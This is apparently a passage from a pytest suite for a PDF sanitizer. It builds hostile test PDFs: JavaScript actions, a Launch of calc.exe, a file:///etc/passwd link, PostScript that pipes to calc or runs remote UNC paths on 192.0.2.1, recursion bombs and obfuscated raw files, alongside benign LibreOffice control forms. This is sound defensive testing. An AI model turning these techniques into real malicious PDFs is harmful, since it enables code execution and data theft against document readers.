    destination /SD is an action, an outline item whose /SE is an action."""
    page.Annots = Array([
        pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 50, 50]), Dest=Array([5, Name.Fit]))),
        pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([60, 0, 110, 50]),
                                     A=Dictionary(S=Name.GoTo, D=Array([page, Name.Fit]), SD=Array([_js(pdf, "app.alert(37)"), Name.Fit])))),
    ])
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=1))
    item = pdf.make_indirect(Dictionary(Title=String("Go"), Parent=outlines, Dest=Array([page, Name.Fit]), SE=_js(pdf, "app.alert(38)")))
    outlines.First = outlines.Last = item
    pdf.Root.Outlines = outlines
    _field(pdf, page, "/Tx", "name")


@attack
def orphan_widgets_and_link_fields(pdf: pikepdf.Pdf, page: Dictionary) -> None:
    """A widget on the page that no field lists, with /A and /AA scripts; a /Fields entry that
    is a Link annotation launching a program."""
    orphan = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, T=String("ghost"), Ff=1 << 16,
                                          Rect=Array([72, 600, 272, 620]), P=page, AP=Dictionary(N=_appearance(pdf)),
                                          A=_js(pdf, "app.alert(39)"), AA=Dictionary(E=_js(pdf, "app.alert(40)"))))
    link = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, T=String("lnk"), FT=Name.Btn, Rect=Array([72, 560, 272, 580]),
                                        P=page, A=Dictionary(S=Name.Launch, F=String("calc.exe"))))
    _field(pdf, page, "/Tx", "name")
    page.Annots.extend([orphan, link])
    pdf.Root.AcroForm.Fields.append(link)


@attack
def markup_annotations_rich_text(pdf: pikepdf.Pdf, page: Dictionary) -> None:
    """Markup annotations (kept): FreeText whose /RC rich text has a script and a remote
    style, /DS with url(), a Text note with /AA and a Popup whose /Parent runs /A."""
    free = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.FreeText, Rect=Array([72, 500, 272, 540]),
                                        Contents=String("memo"), DA=String("/Helv 10 Tf 0 g"),
                                        RC=String('<?xml version="1.0"?><body xmlns="http://www.w3.org/1999/xhtml"><p>memo'
                                                  '<script>app.alert(41)</script><img src="http://192.0.2.1/x.png"/></p></body>'),
                                        DS=String("font: 10pt Helvetica; background-image: url(http://192.0.2.1/y)")))
    note = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Text, Rect=Array([300, 500, 320, 520]), Contents=String("n"),
                                        AA=Dictionary(PO=_js(pdf, "app.alert(42)")), A=_js(pdf, "app.alert(43)")))
    popup = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Popup, Rect=Array([300, 400, 400, 480]), Parent=note,
                                         A=Dictionary(S=Name.URI, URI=String("file:///etc/passwd"))))
    note.Popup = popup
    page.Annots = Array([free, note, popup])
    _field(pdf, page, "/Tx", "name")


@attack
def composite_font_programs(pdf: pikepdf.Pdf, page: Dictionary) -> None:
    """A Type 0 font in /DR whose embedded CMap (/Encoding) runs a file and whose /UseCMap is
    another program, over a CIDFontType0 whose /FontFile3 claims OpenType and is PostScript."""
    evil_cmap = pdf.make_indirect(Stream(pdf, b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap "
                                               b"(%pipe%calc) (r) file endcmap end end", Type=Name.CMap, CMapName=Name.Evil))
    encoding = pdf.make_indirect(Stream(pdf, b"/CIDInit /ProcSet findresource begin (/tmp/x) run end", Type=Name.CMap,
                                        CMapName=Name.Evil2, UseCMap=evil_cmap,
                                        CIDSystemInfo=Dictionary(Registry=String("Adobe"), Ordering=String("Japan1"), Supplement=6)))
    program = pdf.make_indirect(Stream(pdf, b"%!PS\n(\\\\\\\\192.0.2.1\\\\s\\\\f) run\n", Subtype=Name.OpenType))
    descriptor = Dictionary(Type=Name.FontDescriptor, FontName=Name.Evil, Flags=4, FontBBox=Array([0, 0, 1000, 1000]), ItalicAngle=0,
                            Ascent=880, Descent=-120, CapHeight=700, StemV=80, FontFile3=program)
    cid = Dictionary(Type=Name.Font, Subtype=Name.CIDFontType0, BaseFont=Name.Evil, FontDescriptor=descriptor,
                     CIDSystemInfo=Dictionary(Registry=String("Adobe"), Ordering=String("Japan1"), Supplement=6))
    font = Dictionary(Type=Name.Font, Subtype=Name.Type0, BaseFont=Name.Evil, Encoding=encoding, DescendantFonts=Array([cid]))
    pdf.Root.AcroForm.DR.Font.Ev0 = font
    _field(pdf, page, "/Tx", "name", DA=String("/Ev0 12 Tf 0 g"), V=String("氏名"))


@attack
def appearance_postscript_states(pdf: pikepdf.Pdf, page: Dictionary) -> None:
    """A text field whose normal and rollover appearances are one PostScript XObject, and a
    check box whose /N /Yes state is another."""
    postscript = pdf.make_indirect(Stream(pdf, b"(\\\\\\\\192.0.2.1\\\\x) run", Type=Name.XObject, Subtype=Name.PS))
    _field(pdf, page, "/Tx", "name", AP=Dictionary(N=postscript, R=postscript))
    _field(pdf, page, "/Btn", "agree", 660, AS=Name.Yes, V=Name.Yes, AP=Dictionary(N=Dictionary(Yes=postscript, Off=_appearance(pdf))))


@attack
def page_extras(pdf: pikepdf.Pdf, page: Dictionary) -> None:
    """What a page and the catalog may carry beside a form: a thumbnail, page-piece data with
    an action, a transition, article beads and threads, a /URI base of file:///, the
    requirement to run JavaScript, Web Capture and legal attestation dictionaries."""
    page.Thumb = pdf.make_indirect(Stream(pdf, b"\0" * 3, Width=1, Height=1, ColorSpace=Name.DeviceRGB, BitsPerComponent=8))
    page.PieceInfo = Dictionary(Evil=Dictionary(LastModified=String("D:2020"), Private=_js(pdf, "app.alert(48)")))
    page.Trans, page.Dur = Dictionary(S=Name.Dissolve), 1
    page.B = Array([pdf.make_indirect(Dictionary(Type=Name.Bead, R=Array([0, 0, 1, 1])))])
    pdf.Root.URI = Dictionary(Base=String("file:///C:/"))
    pdf.Root.Threads = Array([pdf.make_indirect(Dictionary(Type=Name.Thread, F=page.B[0]))])
    pdf.Root.Requirements = Array([Dictionary(Type=Name.Requirement, S=Name.EnableJavaScripts)])
    pdf.Root.SpiderInfo, pdf.Root.Legal = Dictionary(V=1.0), Dictionary(JavaScript=1)
    _field(pdf, page, "/Tx", "name")


@attack
def markup_appearance_postscript(pdf: pikepdf.Pdf, page: Dictionary) -> None:
    """A FreeText note (markup is kept) whose appearance is a PostScript XObject and whose
    /DA fills the page and passes PostScript through."""
    postscript = pdf.make_indirect(Stream(pdf, b"(\\\\\\\\192.0.2.1\\\\y) run", Type=Name.XObject, Subtype=Name.PS))
    page.Annots = Array([pdf.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.FreeText, Rect=Array([72, 500, 272, 540]), Contents=String("memo"),
        DA=String("/Helv 10 Tf 0 g q 0 0 595 842 re f Q (x) PS"), AP=Dictionary(N=postscript)))])
    _field(pdf, page, "/Tx", "name")


DEEP = 4000  # indirect objects in a chain: beyond any recursion limit of a walker that recurses


@attack
def deep_structure_and_outline(pdf: pikepdf.Pdf, page: Dictionary) -> None:
    """A structure element chain and an outline nested DEEP levels, each level its own object."""
    node = _tagged(pdf, page)
    for _ in range(DEEP):
        deeper = pdf.make_indirect(Dictionary(Type=Name.StructElem, S=Name.Div, P=node))
        node.K = Array([deeper])
        node = deeper
    node.K, node.Pg = 0, page
    parent = outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines))
    for level in range(DEEP):
        item = pdf.make_indirect(Dictionary(Title=String(f"{level}"), Parent=parent, Dest=Array([page, Name.Fit])))
        parent.First = parent.Last = item
        parent.Count, parent = 1, item
    pdf.Root.Outlines = outlines
    _field(pdf, page, "/Tx", "name")


@attack
def deep_layers_labels_appearance(pdf: pikepdf.Pdf, page: Dictionary) -> None:
    """A visibility expression, a layer /Order, a page-label number tree and an appearance's
    form XObjects nested DEEP levels."""
    layer = pdf.make_indirect(Dictionary(Type=Name.OCG, Name=String("L")))
    expression, order = Array([Name.Not, layer]), Array([layer])
    labels = pdf.make_indirect(Dictionary(Nums=Array([0, Dictionary(S=Name.r)]), Limits=Array([0, 0])))
    drawing = _appearance(pdf, b"0 g 0 0 1 1 re f")
    for _ in range(DEEP):
        expression = pdf.make_indirect(Array([Name.Not, expression]))
        order = pdf.make_indirect(Array([String("g"), order]))
        labels = pdf.make_indirect(Dictionary(Kids=Array([labels]), Limits=Array([0, 0])))
        drawing = _appearance(pdf, b"/X Do", Resources=Dictionary(XObject=Dictionary(X=drawing)))
    pdf.Root.OCProperties = Dictionary(OCGs=Array([layer]), D=Dictionary(ON=Array([layer]), Order=Array([order])))
    pdf.Root.PageLabels = labels
    field = _field(pdf, page, "/Tx", "name", AP=Dictionary(N=drawing))
    field.OC = pdf.make_indirect(Dictionary(Type=Name.OCMD, VE=expression))


@attack
def many_fields(pdf: pikepdf.Pdf, page: Dictionary) -> None:
    """2000 fields on one page, each with a keystroke script: time, not a crossing, is the risk."""
    for number in range(2000):
        _field(pdf, page, "/Tx", f"f{number}", 10 + (number % 40) * 20, V=String("x"),
               AA=Dictionary(K=Dictionary(S=Name.JavaScript, JS=String(f"app.alert({number})"))))


RAW_TAIL = b"trailer\n<< /Size 9 /Root 1 0 R >>\n%%EOF\n"


def raw_cases() -> dict[str, bytes]:
    """Malformed files written by hand: no cross-reference table, a duplicated object whose
    later copy adds a script, an incremental update that adds /AA to a field, an object
    stream holding the script."""
    objects = [
        b"1 0 obj << /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> >> endobj",
        b"2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj",
        b"3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >> endobj",
        b"4 0 obj << /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [72 700 272 720] /P 3 0 R /V (x) >> endobj",
        b"4 0 obj << /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [72 700 272 720] /P 3 0 R /V (x) "
        b"/AA << /K << /S /JavaScript /JS (app.alert(32)) >> >> >> endobj",
    ]
    no_xref = b"%PDF-1.7\n" + b"\n".join(objects) + b"\n" + RAW_TAIL
    pdf, page = _new()
    _field(pdf, page, "/Tx", "name", V=String("x"))
    base = _saved(pdf)
    with pikepdf.open(io.BytesIO(base)) as again:
        number = again.Root.AcroForm.Fields[0].objgen[0]  # saving renumbers
    update = (f"\n{number} 0 obj << /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [72 700 272 720] /V (x) "
              f"/AA << /K << /S /JavaScript /JS (app.alert\\(33\\)) >> >> >> endobj\n").encode()
    offset = len(base) + 1
    xref = f"xref\n0 1\n0000000000 65535 f \n{number} 1\n{offset:010d} 00000 n \n".encode()
    startxref = base.rfind(b"startxref")
    previous = int(base[startxref:].split()[1])
    with pikepdf.open(io.BytesIO(base)) as again:
        size, root = len(again.objects) + 1, again.Root.objgen[0]
    incremental = base + update + xref + (f"trailer\n<< /Size {size} /Root {root} 0 R /Prev {previous} >>\n"
                                          f"startxref\n{len(base + update)}\n%%EOF\n").encode()
    script_pdf, script_page = _new()
    script_pdf.Root.OpenAction = _js(script_pdf, "app.alert(34)")
    _field(script_pdf, script_page, "/Tx", "name")
    packed = io.BytesIO()
    script_pdf.save(packed, object_stream_mode=pikepdf.ObjectStreamMode.generate, static_id=True)
    escaped = [
        b"1 0 obj << /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> "
        b"/OpenAction << /S /J#61vaScript /J#53 <6170702e616c657274283434293b> >> >> endobj",
        objects[1], objects[2],
        b"4 0 obj << /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [72 700 272 720] /P 3 0 R /V (x) "
        b"/A#41 << /K << /S /JavaScript /JS (\\141pp.alert\\(45\\)) >> >> >> endobj",
    ]
    body = b"%PDF-1.7\n"
    offsets = []
    for item in escaped:
        offsets.append(len(body))
        body += item + b"\n"
    table = b"".join(b"%010d 00000 n \n" % o for o in offsets)
    name_escapes = body + (b"xref\n0 5\n0000000000 65535 f \n" + table + b"trailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n"
                           + str(len(body)).encode() + b"\n%%EOF\n")
    locked_pdf, locked_page = _new()
    _field(locked_pdf, locked_page, "/Tx", "name", AA=Dictionary(K=_js(locked_pdf, "app.alert(46)")))
    locked_pdf.Root.OpenAction = _js(locked_pdf, "app.alert(47)")
    locked = io.BytesIO()
    locked_pdf.save(locked, encryption=pikepdf.Encryption(owner="secret", user="", R=6), static_id=True)
    return {
        "raw-name-escapes": name_escapes,
        "raw-owner-password-scripts": locked.getvalue(),
        "raw-no-xref-duplicate-object": no_xref,
        "raw-incremental-update-adds-script": incremental,
        "raw-object-stream-openaction": packed.getvalue(),
        "raw-after-eof": base + b"\n%PDF-1.7\n1 0 obj << /S /JavaScript /JS (app.alert(35)) >> endobj\n%%EOF\n",
        "raw-truncated-form": base[: len(base) * 2 // 3],
    }


def build_cases() -> dict[str, tuple[str, bytes]]:
    cases = {}
    for case, plant in BUILDERS.items():
        pdf, page = _new()
        plant(pdf, page)
        cases[case] = (f"{case}.pdf", _saved(pdf))
    cases.update({case: (f"{case}.pdf", data) for case, data in raw_cases().items()})
    return cases


# ============================================================================ benign controls
LIBREOFFICE_FORMS = {
    "lo-moushikomi": ("""<h1>申込書</h1><form>
<p>氏名 <input type="text" name="shimei" value="山田太郎"></p>
<p>住所 <input type="text" name="jusho" value=""></p>
<p>備考 <textarea name="bikou" rows="3" cols="30">特になし</textarea></p>
<p>同意 <input type="checkbox" name="agree" checked></p>
<p><input type="submit" value="送信"> <input type="reset" value="取消"></p></form>""", True),
    "lo-tennyu": ("""<h1>転入届</h1><form>
<p>性別 <input type="radio" name="sex" value="m" checked> 男 <input type="radio" name="sex" value="f"> 女</p>
<p>区分 <select name="kubun"><option>転入</option><option selected>転居</option><option>転出</option></select></p>
<p>世帯 <select name="setai" size="3"><option>単身</option><option>家族</option><option>その他</option></select></p>
<p>電話 <input type="text" name="denwa" value="011-000-0000"></p></form>""", True),
    "lo-untagged": ("""<h1>アンケート</h1><form>
<p>ご意見 <input type="text" name="goiken" value=""></p>
<p>満足 <input type="checkbox" name="manzoku"> 不満 <input type="checkbox" name="fuman"></p>
<p><input type="button" value="確認"></p></form>""", False),
    "lo-table": ("""<h1>物品請求</h1><form><table border="1"><tr><th>品名</th><th>数量</th></tr>
<tr><td><input type="text" name="hinmei1" value="鉛筆"></td><td><input type="text" name="suryo1" value="12"></td></tr>
<tr><td><input type="text" name="hinmei2" value=""></td><td><input type="text" name="suryo2" value=""></td></tr>
</table></form>""", True),
}


def libreoffice_forms(work: Path) -> dict[str, tuple[str, bytes]]:
    """The benign forms exported by LibreOffice Writer (one run per tag setting)."""
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    assert soffice, "LibreOffice is needed for the benign forms (make test installs it)"
    made = {}
    for tagged in (True, False):
        folder = work / ("tagged" if tagged else "plain")
        folder.mkdir()
        names = [case for case, (_, t) in LIBREOFFICE_FORMS.items() if t == tagged]
        for case in names:
            body = LIBREOFFICE_FORMS[case][0]
            (folder / f"{case}.html").write_text(
                f'<html><head><meta charset="utf-8"><title>{case}</title></head><body>{body}</body></html>', encoding="utf-8")
        settings = (f'{{"UseTaggedPDF":{{"type":"boolean","value":"{str(tagged).lower()}"}},'
                    '"ExportFormFields":{"type":"boolean","value":"true"}}')
        subprocess.run([soffice, "--headless", f"-env:UserInstallation=file://{work}/profile", "--convert-to",
                        f"pdf:writer_pdf_Export:{settings}", "--outdir", str(folder),
                        *[str(folder / f"{case}.html") for case in names]], check=True, capture_output=True, timeout=120)
        made.update({case: (f"{case}.pdf", (folder / f"{case}.pdf").read_bytes()) for case in names})
    return made


def pdfium_fields(data: bytes, fill: str | None = None) -> list[tuple[str, int, str]]:
    """(name, pdfium field type, value) of every widget of pdfium's form layer; with
    ``fill``, each text field is first typed into (see ``_type_into``)."""
    document = pdfium.PdfDocument(data)
    document.init_forms()
    env = document.formenv.raw if document.formenv is not None else None  # no form, no layer
    seen = []
    for page in [document[n] for n in range(len(document))] if env is not None else []:
        for annot in [pdfium_raw.FPDFPage_GetAnnot(page.raw, i) for i in range(pdfium_raw.FPDFPage_GetAnnotCount(page.raw))]:
            kind = pdfium_raw.FPDFAnnot_GetFormFieldType(env, annot)
            if fill is not None and kind == pdfium_raw.FPDF_FORMFIELD_TEXTFIELD:
                _type_into(env, page, annot, fill)
            seen.append((_wide(pdfium_raw.FPDFAnnot_GetFormFieldName, env, annot), kind,
                         _wide(pdfium_raw.FPDFAnnot_GetFormFieldValue, env, annot)))
            pdfium_raw.FPDFPage_CloseAnnot(annot)
    return seen


def _type_into(env: object, page: pdfium.PdfPage, annot: object, text: str) -> None:
    """As a clerk does: focus the field, select what it holds, type ``text`` over it, leave."""
    wide = (text + "\0").encode("utf-16-le")
    assert pdfium_raw.FORM_SetFocusedAnnot(env, annot), "pdfium does not let the field take focus"
    pdfium_raw.FORM_SelectAllText(env, page.raw)
    pdfium_raw.FORM_ReplaceSelection(env, page.raw, ctypes.cast(ctypes.c_char_p(wide), pdfium_raw.FPDF_WIDESTRING))
    pdfium_raw.FORM_ForceToKillFocus(env)


def _wide(function: Callable, env: object, annot: object) -> str:
    """pdfium's UTF-16 answer: asked once for its length in bytes, then read into that many."""
    size = function(env, annot, None, 0)
    units = (pdfium_raw.FPDF_WCHAR * (size // 2 + 1))()
    function(env, annot, units, size)
    return bytes(units)[:size].decode("utf-16-le").rstrip("\0")


# ============================================================================ the run
# crossings found by this file (case id → what crossed); the lead fixes them in cdr/
CROSSINGS: dict[str, str] = {}
# released values the specification does not define (case id → which)
ODDITIES: dict[str, str] = {}
CASES = build_cases()


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """Every hostile file and the benign forms through one ``cli.py sanitize --json`` run
    over a folder, as an operator runs it (no configuration file)."""
    work = tmp_path_factory.mktemp("atkpdf")
    benign = libreoffice_forms(work)
    (work / "in").mkdir()
    for name, data in [*CASES.values(), *benign.values()]:
        (work / "in" / name).write_bytes(data)
    return {"batch": runner.sanitize(work, ["in"], timeout=600), "benign": benign}


def test_the_run_stays_composed(run: dict) -> None:
    batch: runner.Batch = run["batch"]
    assert "Traceback" not in batch.stderr, batch.stderr[-3000:]
    assert batch.returncode in (0, 1), batch.stderr[-3000:]
    assert set(batch.results) == {name for name, _ in [*CASES.values(), *run["benign"].values()]}


def _released(run: dict, name: str) -> tuple[dict, bytes | None, list[str]]:
    batch: runner.Batch = run["batch"]
    result = batch.results.get(name)
    assert result is not None, f"no result line for {name!r}: {batch.stderr[-2000:]}"
    failures = []
    if result["reason"] == "operational-error" or result["duration_ms"] > 60_000:
        failures.append(f"appliance failed: {result['reason']} after {result['duration_ms']} ms: {result['message']}")
    output = batch.output(name)
    return result, output.read_bytes() if output is not None else None, failures


def _marked(table: dict[str, str]) -> list[Any]:
    return [pytest.param(c, marks=pytest.mark.xfail(strict=True, reason=table[c])) if c in table else c for c in CASES]


@pytest.mark.parametrize("case", _marked(CROSSINGS))
def test_hostile_form_is_quarantined_or_crosses_harmless(run: dict, case: str) -> None:
    result, data, found = _released(run, CASES[case][0])
    if data is not None:
        found += inspect_pdf(data)[0]
    assert not found, f"{case}: {result['verdict']} as {result['output']}: {found[:12]}"


@pytest.mark.parametrize("case", _marked(ODDITIES))
def test_released_fields_hold_only_values_the_specification_defines(run: dict, case: str) -> None:
    result, data, _ = _released(run, CASES[case][0])
    oddities = inspect_pdf(data)[1] if data is not None else []
    assert not oddities, f"{case}: {oddities[:8]}"


@pytest.mark.parametrize("case", sorted(LIBREOFFICE_FORMS))
def test_libreoffice_form_crosses_harmless_and_stays_fillable(run: dict, case: str) -> None:
    name, original = run["benign"][case]
    result, data, found = _released(run, name)
    assert result["verdict"] == "released", result
    assert data is not None
    problems, oddities = inspect_pdf(data)
    assert not found + problems + oddities, found + problems + oddities
    before, after = pdfium_fields(original), pdfium_fields(data)
    assert [(n, k) for n, k, _ in after] == [(n, k) for n, k, _ in before]
    # text and choices read as before (a check box may now show the state its value names:
    # LibreOffice writes /V /Yes where the box's states are /on and /Off)
    kept = (pdfium_raw.FPDF_FORMFIELD_TEXTFIELD, pdfium_raw.FPDF_FORMFIELD_COMBOBOX, pdfium_raw.FPDF_FORMFIELD_LISTBOX,
            pdfium_raw.FPDF_FORMFIELD_RADIOBUTTON)
    assert [(n, v) for n, k, v in after if k in kept] == [(n, v) for n, k, v in before if k in kept]
    typed = pdfium_fields(data, fill="記入済み")
    texts = [(n, v) for n, k, v in typed if k == pdfium_raw.FPDF_FORMFIELD_TEXTFIELD]
    assert texts and all(v == "記入済み" for _, v in texts), texts
    assert "form-fields" in {a["what"] for a in result["actions"] if a["action"] == "kept"}


@pytest.mark.parametrize("case", list(CASES))
def test_the_inspector_finds_what_was_planted(case: str) -> None:
    """The inspector is not vacuous: fed the hostile original, it names something."""
    problems, oddities = inspect_pdf(CASES[case][1])
    assert problems + oddities, f"{case}: the inspector accepts the hostile original"


def test_the_inspector_accepts_a_plain_form_and_refuses_small_things() -> None:
    pdf, page = _new()
    _field(pdf, page, "/Tx", "name", V=String("山田"))
    assert inspect_pdf(_saved(pdf)) == ([], [])
    pdf.Root.AcroForm.Fields[0].TU = Dictionary(S=Name.GoTo, D=Array([page, Name.Fit]))
    # met twice: as the page's annotation and as the form's field
    assert sorted(inspect_pdf(_saved(pdf))[0]) == [
        "trailer/Root/AcroForm/Fields[0]/TU: a dictionary where a plain value belongs",
        "trailer/Root/Pages/Kids[0]/Annots[0]/TU: a dictionary where a plain value belongs",
    ]
    pdf, page = _new()
    page.Contents = pdf.make_indirect(Stream(pdf, b"BT /F1 12 Tf (a) Tj ET 0 0 m 1 1 l S"))
    _field(pdf, page, "/Tx", "name", DA=String("/Helv 9 Tf 0 0 1 rg"))
    assert inspect_pdf(_saved(pdf)) == ([], [])
    page.Contents = pdf.make_indirect(Stream(pdf, zlib.compress(b"BX /a 1 PS EX"), Filter=Name.FlateDecode))
    assert [p.split(": ", 1)[1] for p in inspect_pdf(_saved(pdf))[0]] == [
        "content operator 'BX'", "content operator 'PS'", "content operator 'EX'"]
